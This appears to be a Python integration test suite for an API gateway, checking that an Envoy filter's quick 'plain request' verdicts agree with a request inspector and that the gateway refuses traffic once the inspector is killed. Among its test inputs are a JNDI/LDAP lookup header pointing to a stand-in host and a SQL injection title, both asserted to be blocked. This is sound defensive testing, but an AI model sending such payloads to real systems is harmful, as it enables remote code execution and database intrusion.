"""Requests that Envoy judges itself: whatever its script passes, the inspector passes; and without it, nothing does."""

from __future__ import annotations

import contextlib
import json
import os
import random
import re
import signal
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from gateway_under_test import C, echo_upstream, gateway
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from plain_judge import Judge, judging
from test_inspector_injection import _attacks as attacks_by_class
from test_inspector_injection import _legitimate as legitimate_texts
from test_inspector_server import running

from assay.gateway import ir
from assay.gateway.assemble import OperationPolicy, assemble
from assay.gateway.envoy import plainness
from assay.gateway.envoy.filters import plain
from assay.gateway.inspector.bundle import build, encode
from assay.gateway.inspector.core import inspect
from assay.gateway.inspector.injection import Engine, harmless
from assay.gateway.inspector.operation import Operation, compile_operation
from assay.gateway.inspector.schemas import Library
from assay.gateway.ports import free_ports
from assay.gateway.words import FIRST, LOGIC, TELLING

pytestmark = pytest.mark.integration

ADDRESS = {"type": "object", "required": ["city"], "properties": {"city": {"type": "string", "maxLength": 40}}}
ORDER: dict[str, Any] = {
    "type": "object",
    "additionalProperties": False,
    "required": ["title", "price"],
    "properties": {
        "title": {"type": "string", "minLength": 1, "maxLength": 100, "description": "What it is."},
        "price": {"type": "number", "minimum": 0, "exclusiveMaximum": 1000},
        "stock": {"type": ["integer", "null"], "minimum": -5, "maximum": 100000},
        "gift": {"type": "boolean"},
        "supplier": {"type": "string", "maxLength": 20, "pattern": "^[a-z0-9-]+$"},
        "code": {"type": "string", "pattern": "^[A-Z]{2}\\d{3,4}$"},
        "contact": {"type": "string", "format": "email", "maxLength": 50},
        "day": {"type": "string", "format": "date"},
        "at": {"type": "string", "format": "date-time"},
        "id": {"type": "string", "format": "uuid"},
        "size": {"type": "string", "enum": ["S", "M", "L"]},
        "tags": {"type": "array", "minItems": 1, "maxItems": 3, "items": {"type": "string", "maxLength": 10}},
        "to": {"$ref": "#/$defs/Address"},
        "either": {"oneOf": [{"type": "string"}, {"type": "integer"}]},
    },
}
FREE = (("title",), ("tags", "*"), ("to", "city"))
GOOD = {
    "title": "Walnut desk; oiled, 2 drawers",
    "price": 349.5,
    "stock": 12,
    "gift": True,
    "supplier": "north-42",
    "code": "AB123",
    "contact": "orders.eu@example.com",
    "day": "2026-11-22",
    "at": "2026-11-22T08:30:00Z",
    "id": "7b0c3a1e-8a57-4a5e-9df1-0d6c1f2a9b11",
    "size": "M",
    "tags": ["new", "oak"],
    "to": {"city": "Cork"},
}
VALUES: dict[str, list[str]] = {
    "price": ["0", "-0", "999", "1000", "999.999", "0.5", "1e2", "01", "1.", ".5", "-1", "123456789012345678", "12.50"],
    "stock": ["null", "0", "-5", "-6", "1.0", "100001", "100000", "-", "--1", "0x1", "nul", "nullx"],
    "gift": ["true", "false", "tru", "TRUE", "1", "truefalse"],
    "supplier": ['"a_b"', '"A"', '""', '"a-9"', '"' + "a" * 21 + '"'],
    "code": ['"AB12"', '"AB1234"', '"AB12345"', '"ab123"', '"AB123\\n"'],
    "contact": [
        '"a@b.example"',
        '"ab@b.co"',
        '"a..b@c.de"',
        '"a.-b@c.de"',
        '"ab@c..de"',
        '"ab@c.d1"',
        '"' + "a" * 64 + '@b.de"',
    ],
    "day": [
        '"2026-02-28"',
        '"2026-02-29"',
        '"2024-02-29"',
        '"2026-13-01"',
        '"2026-00-10"',
        '"2026-1-1"',
        '"0000-01-01"',
    ],
    "at": ['"2026-11-22T24:00:00Z"', '"2026-11-22T23:59:59Z"', '"2026-11-22T23:59:60Z"', '"2026-11-22T08:30:00+01:00"'],
    "id": ['"7B0C3A1E-8A57-4A5E-9DF1-0D6C1F2A9B11"', '"7b0c3a1e8a574a5e9df10d6c1f2a9b11"', '"' + "a" * 36 + '"'],
    "size": ['"XL"', '"m"', '"S"'],
    "tags": [
        "[]",
        '["a"]',
        '["a","b","c","d"]',
        '["a",]',
        '[,"a"]',
        '["a" "b"]',
        '["a"',
        "[[]]",
        "{}",
        '["elevenchars"]',
    ],
    "to": ["{}", '{"city":"Cork","street":"x"}', '{"city":"a","city":"b"}', "null", "[]", '{"city":"Cork",}'],
    "either": ['"x"', "1"],
}


def _operation(schema: Any, free: tuple[tuple[str, ...], ...] = (), **more: Any) -> OperationPolicy:
    """The policy of an operation that takes this body, without anything that is not about it."""
    body = ir.BodyRule(media_type="application/json", schema=json.dumps(schema), free_text=free)
    inspection = ir.Inspection(**C, api="shop", operation="create", **({"bodies": (body,)} | more))
    route = ir.Route(
        **C, api="shop", operation="create", method="POST", hosts=("*",), public_base="", template="/create"
    )
    upstream = ir.Upstream(**C, api="shop", host="127.0.0.1", port=1)
    size = ir.SizeLimit(**C, api="shop", operation="create", body_bytes=100_000)
    return OperationPolicy(route, upstream, None, (), size, inspection, (), None)


DEFINITIONS = {"Address": ADDRESS}
NODE = plainness.node(_operation(ORDER, FREE), DEFINITIONS)


@pytest.fixture(scope="module")
def judge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Judge]:
    with judging(tmp_path_factory.mktemp("judge")) as found:
        yield found


@pytest.fixture(scope="module")
def orders(engine: Engine) -> Operation:
    inspection = _operation(ORDER, FREE).inspection
    assert inspection is not None
    return compile_operation(inspection, Library(json.dumps(DEFINITIONS)), engine, None)


def _passes(operation: Operation, body: bytes) -> bool:
    return inspect(operation, "POST", "/create", b"", [(b"content-type", b"application/json")], body).allowed


def _written(members: dict[str, str]) -> bytes:
    return ("{" + ",".join(f'"{name}":{value}' for name, value in members.items()) + "}").encode("utf-8", "replace")


def _members(**changed: str) -> bytes:
    return _written({name: json.dumps(value) for name, value in GOOD.items()} | changed)


def test_everyday_bodies_are_plain(judge: Judge, orders: Operation) -> None:
    bodies = [
        json.dumps(GOOD).encode(),
        json.dumps(GOOD, indent=2).encode(),
        b' {"title" : "Desk" ,\t"price":\n 12 } \r\n',
        _members(stock="null"),
        _members(title='"An offer for you and me: 3 chairs - cheap!"'.replace("and ", "").replace("for ", "")),
    ]
    assert judge(NODE, bodies) == [True] * len(bodies)
    assert all(_passes(orders, body) for body in bodies)


def test_what_the_script_passes_the_inspector_passes_value_by_value(judge: Judge, orders: Operation) -> None:
    bodies = [_members(**{name: value}) for name, values in VALUES.items() for value in values]
    found = judge(NODE, bodies)
    assert [b for b, passed in zip(bodies, found, strict=True) if passed and not _passes(orders, b)] == []
    assert len(bodies) / 6 < sum(found) < len(bodies) / 2


def test_no_attack_is_plain(judge: Judge, orders: Operation) -> None:
    attacks = [text[:100] for group in attacks_by_class().values() for text in group]
    legitimate = [text[:100] for text in legitimate_texts()]
    plain_ones = {}
    for name, texts in (("attacks", attacks), ("legitimate", legitimate)):
        bodies = [_members(title=json.dumps(t, ensure_ascii=False)) for t in texts]
        found = judge(NODE, bodies)
        assert [b for b, passed in zip(bodies, found, strict=True) if passed and not _passes(orders, b)] == []
        plain_ones[name] = [t for t, passed in zip(texts, found, strict=True) if passed]
    assert plain_ones["attacks"] == []
    assert len(plain_ones["legitimate"]) > 40  # they were written to be near to attacks


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-10, 10**6) | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
).map(json.dumps)
_PIECES = st.sampled_from(
    [*'{}[],:"\\\x00\x7f\xff \t\n\v\ufeff-09.e', "\\u0041", "null", "true", '"title"', '"a":1,', "/*x*/", "NaN"]
)


@st.composite
def _bodies(draw: st.DrawFn) -> bytes:
    """A body whose members are good, near to good or anything, and into which something may have fallen."""
    chosen = draw(st.lists(st.sampled_from(sorted(GOOD)), max_size=6))
    members = [(name, json.dumps(GOOD[name])) for name in ("title", "price", *chosen)]
    for _ in range(draw(st.integers(0, 2))):
        name = draw(st.sampled_from(sorted(VALUES)))
        members.append((name, draw(st.sampled_from(VALUES[name]) | _JSON)))
    text = "{" + ",".join(f'"{name}":{value}' for name, value in members) + "}"
    if draw(st.booleans()):
        at = draw(st.integers(0, len(text)))
        text = text[:at] + draw(_PIECES) + text[at + draw(st.integers(0, 2)) :]
    return text.encode("latin-1" if draw(st.booleans()) else "utf-8", "replace")


_MANY = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)


@_MANY
@given(bodies=st.lists(_bodies(), min_size=20, max_size=30))
def test_whatever_the_script_passes_the_inspector_passes(judge: Judge, orders: Operation, bodies: list[bytes]) -> None:
    passed = [b for b, is_plain in zip(bodies, judge(NODE, bodies), strict=True) if is_plain]
    assert [b for b in passed if not _passes(orders, b)] == []


@_MANY
@given(chance=st.randoms(use_true_random=False))
def test_a_text_that_the_script_finds_harmless_is_harmless(judge: Judge, chance: random.Random) -> None:
    words = [
        *sorted(TELLING | LOGIC | FIRST),
        *["a", "b", "Desk", "oak", "1", "42", "x9", "document", "Document.x", "café", "_", "__"],
    ]
    glue = [" ", " ", " ", "; ", ";", ". ", "..", ".", ", ", ": ", ":", "-", "--", "!", "? ", "'", "(", ")", "/", "%"]
    texts = [
        "".join(f"{chance.choice(words)}{chance.choice(glue)}" for _ in range(chance.randint(1, 5))) for _ in range(60)
    ]
    node = {"kind": "string", "least": 0, "most": 200, "free": True}
    found = judge(node, [json.dumps(t, ensure_ascii=False).encode() for t in texts])
    assert [t for t, passed in zip(texts, found, strict=True) if passed and not harmless(t)] == []


_SETS = st.sampled_from(
    ["[a-z]", "[A-Z0-9]", "\\d", "\\w", "[a-z_-]", "[.:@]", "[\\w.-]", "x", "-", "\\.", "[-a]", " "]
)
_TIMES = st.sampled_from(["", "", "+", "*", "?", "{2}", "{1,3}", "{2,}", "{0,2}"])


@_MANY
@given(
    parts=st.lists(st.tuples(_SETS, _TIMES), min_size=1, max_size=4),
    texts=st.lists(st.text(st.sampled_from("azxAZ09_-.:@ "), max_size=8), min_size=30, max_size=40),
)
def test_a_pattern_matches_in_the_script_what_it_matches_in_the_contract(
    judge: Judge, parts: list[tuple[str, str]], texts: list[str]
) -> None:
    pattern = "^" + "".join(part + times for part, times in parts) + "$"
    node = plainness.node(_operation({"type": "array", "items": {"type": "string", "pattern": pattern}}), {})
    if node is not None:
        found = judge(node["items"], [json.dumps(t).encode() for t in texts])
        assert found == [re.search(pattern, t, re.ASCII) is not None for t in texts]


def test_envoy_takes_the_largest_script(tmp_path: Path) -> None:
    operations, room, number = {}, plain.MOST_VALUES, 0
    while True:
        names = {f"p{number}-{n}": {"type": "array", "items": {"enum": [f"v{number}-{n}"]}} for n in range(150)}
        node = plainness.node(_operation({"type": "object", "properties": names}), {})
        assert node is not None
        room -= plainness.weight(node)
        if room < 0:
            break
        operations[f"shop/o{number}"] = node
        number += 1
    with judging(tmp_path, operations) as judge:
        assert judge({"kind": "boolean"}, [b"true", b"tru"]) == [True, False]


def _busy(pieces: list[ir.AnyPiece], monkeypatch: pytest.MonkeyPatch) -> bytes:
    """Makes a worker judge by itself after one request in a second, for two; the inspector's bundle."""
    monkeypatch.setattr(plain, "STRETCH_MILLISECONDS", 1000)
    monkeypatch.setattr(plain, "MANY", 1)
    return encode(build(assemble([*pieces, ir.AccessLog(**C)])))


def _until(true: Callable[[], bool]) -> None:
    end = time.monotonic() + 90
    while not true():
        assert time.monotonic() < end
        time.sleep(0.05)


HOSTILE_HEADERS = (
    {"x-note": "${jndi:ldap://x.example/a}"},
    {"content-encoding": "gzip"},
    {"content-type": "text/plain"},
    {"content-type": "application/json; charset=utf-16"},
)


def test_a_busy_gateway_judges_plain_requests_and_closes_without_the_inspector(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with echo_upstream() as upstream, contextlib.ExitStack() as stack:
        of = _operation(ORDER, FREE)
        assert of.inspection is not None
        assert of.size is not None
        pieces: list[ir.AnyPiece] = [
            of.route,
            msgspec.structs.replace(of.upstream, port=upstream.server_address[1]),
            of.inspection,
            of.size,
            ir.Authentication(**C, api="shop", operation="create", alternatives=((),)),
            ir.AccessRule(**C, api="shop", operation="create", name="everybody"),
            ir.SchemaLibrary(**C, api="shop", definitions=json.dumps(DEFINITIONS)),
            ir.Listener(**C, address="127.0.0.1", port=free_ports()),
        ]
        bundle = _busy(pieces, monkeypatch)
        inspector = stack.enter_context(running(tmp_path, bundle))
        envoy = stack.enter_context(gateway(tmp_path, pieces, inspector=str(inspector.uds)))
        client = stack.enter_context(envoy.client())

        def last_is_plain() -> bool:
            """One more good request; whether the script has judged it."""
            lines = len(Path(envoy.runtime.access_log).read_text().splitlines())
            assert client.post("/create", json=GOOD).status_code == 200
            return envoy.log(lines=lines + 1)[-1].get("inspector_decision") == "plain"

        _until(last_is_plain)
        for body in (b'{"title":"a","title":"b","price":1}', b'{"title":"x","price":-1}', b"{", b"[]"):
            found = client.post("/create", content=body, headers={"content-type": "application/json"})
            assert found.status_code == 400, body
        assert client.post("/create", json=GOOD | {"title": "x' OR 1=1 --"}).status_code == 403
        assert client.post("/create?debug=1", json=GOOD).status_code == 400
        for headers in HOSTILE_HEADERS:
            sent = {"content-type": "application/json"} | headers
            assert 400 <= client.post("/create", json=GOOD, headers=sent).status_code < 500, headers
        twice = [("content-type", "application/json"), ("content-type", "application/json")]
        assert client.post("/create", content=json.dumps(GOOD), headers=twice).status_code == 415
        _until(last_is_plain)
        assert client.post("/create", json=GOOD | {"either": 1}).status_code == 200  # asked about, and right

        inspector.replace(bundle.replace(assemble([*pieces, ir.AccessLog(**C)]).digest.encode(), b"0" * 64))
        inspector.wait(lambda status: status["digest"] == "0" * 64)  # it has another policy now
        # One request of each stretch is always asked about, so two that are not plain say that trust has ended.
        _until(lambda: not any(last_is_plain() for _ in range(2)))
        assert not any(last_is_plain() for _ in range(5))
        inspector.replace(bundle)
        _until(last_is_plain)

        os.killpg(inspector.process.pid, signal.SIGKILL)
        inspector.process.wait(5)
        _until(lambda: client.post("/create", json=GOOD).status_code == 503)
        seen = len(upstream.seen)
        assert {client.post("/create", json=GOOD).status_code for _ in range(20)} == {503}
        assert len(upstream.seen) == seen
